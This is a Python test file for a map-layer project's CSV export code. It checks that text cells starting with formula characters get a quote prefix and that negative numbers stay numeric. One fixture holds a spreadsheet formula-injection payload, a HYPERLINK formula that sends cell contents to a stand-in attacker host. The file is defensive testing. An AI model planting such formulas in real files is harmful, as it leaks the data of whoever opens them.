"""No CSV the project writes can make a spreadsheet run a formula (OWASP, CSV injection).

A reported figure, a layer name or a note is free text from an editor or an imported
file; opened in a spreadsheet, a cell starting with ``=``, ``+``, ``-``, ``@``, a tab or
a carriage return would run as a formula. Every such text cell is written with a ``'``
in front; numbers (a negative net change above all) stay numbers.
"""

from __future__ import annotations

import csv
import datetime as dt
import io

import pandas as pd
import pytest
import shapely

from layers import exports, figures
from layers.__main__ import main
from tests.conftest import snapshot

HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'
LAYER = "@Kursk"


def read_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize(
    "value, written",
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("ISW", "ISW"),
        ("a = b", "a = b"),
        ("", ""),
        (-12.5, -12.5),
        (-3, -3),
        (None, None),
    ],
)
def test_csv_cell_prefixes_formula_text_only(value, written):
    assert exports.csv_cell(value) == written


@pytest.fixture
def injected_store(store):
    """A layer named like a formula, with a gain then a loss, and figures whose text starts with formulas."""
    small, large = shapely.box(35.0, 51.0, 35.1, 51.1), shapely.box(35.0, 51.0, 35.3, 51.2)
    store.write(
        [
            snapshot(LAYER, "2024-08-10", [(small, "UA", "held", "-ISW")]),
            snapshot(LAYER, "2024-09-20", [(large, "UA", "held", "-ISW")]),
            snapshot(LAYER, "2024-10-20", [(small, "UA", "held", "-ISW")]),
        ],
        actor="test",
    )
    table = pd.DataFrame(
        [
            {
                "date": "2024-09-20",
                "scope": HYPERLINK,
                "layer": LAYER,
                "held_by": "UA",
                "status": "held",
                "value_km2": "1000",
                "kind": "official claim",
                "source": "+7 (495) press office",
                "note": "@everyone -- see the map",
            }
        ]
    )
    store.add_figures(figures.check_figures(table, "test"), actor="test")
    return store


def run(capsys, *argv: str) -> str:
    code = main(list(argv))
    out, err = capsys.readouterr()
    assert code == 0, err
    return out


def test_figures_compare_neutralises_formula_text(injected_store, capsys):
    rows = read_rows(run(capsys, "figures", "compare", "--db", injected_store.url))
    (row,) = [r for r in rows if r["layer"].endswith(LAYER)]
    assert row["scope"] == "'" + HYPERLINK
    assert row["source"] == "'+7 (495) press office"
    assert row["note"] == "'@everyone -- see the map"
    assert row["layer"] == "'" + LAYER
    # Computed minus reported is negative here, and stays a plain number.
    assert float(row["difference_km2"]) < 0 and row["difference_km2"].startswith("-")


def test_comparison_csv_from_the_app_is_the_same(injected_store):
    comparison = figures.compare(injected_store.reported_figures(), injected_store.area_series())
    (row,) = read_rows(exports.comparison_csv(comparison[comparison["layer"] == LAYER]))
    assert row["scope"] == "'" + HYPERLINK and row["difference_km2"].startswith("-")


def test_area_series_csv_neutralises_the_layer_name(injected_store):
    rows = read_rows(exports.area_series_csv(injected_store.area_series(LAYER)))
    assert rows and {r["layer"] for r in rows} == {"'" + LAYER}
    assert max(float(r["area_km2"]) for r in rows) > 0


def test_areas_command_neutralises_the_layer_name(injected_store, capsys):
    rows = read_rows(run(capsys, "areas", "--db", injected_store.url, "--layer", LAYER))
    assert rows and {r["layer"] for r in rows} == {"'" + LAYER}


def test_change_csv_keeps_negative_numbers_and_neutralises_text(injected_store, capsys):
    rows = read_rows(
        run(capsys, "change", "--db", injected_store.url, "--layer", LAYER, "--from", "2024-09-20")
    )
    assert rows and {r["layer"] for r in rows} == {"'" + LAYER}
    assert float(rows[0]["net_km2"]) < 0 and rows[0]["net_km2"].startswith("-")
    monthly = read_rows(run(capsys, "change", "--db", injected_store.url, "--layer", LAYER, "--monthly"))
    assert {r["layer"] for r in monthly} == {"'" + LAYER}
    assert any(r["change_km2"].startswith("-") and float(r["change_km2"]) < 0 for r in monthly)


def test_table_csv_leaves_numbers_and_dates_alone():
    table = pd.DataFrame(
        {"month": [dt.date(2024, 9, 1)], "layer": ["=1+1"], "change_km2": [-12.3456], "partial": [True]}
    )
    (row,) = read_rows(exports.table_csv(table))
    assert row == {
        "month": "2024-09-01",
        "layer": "'=1+1",
        "change_km2": "-12.346",
        "partial": "True",
        "method": row["method"],
        "borders": row["borders"],
    }
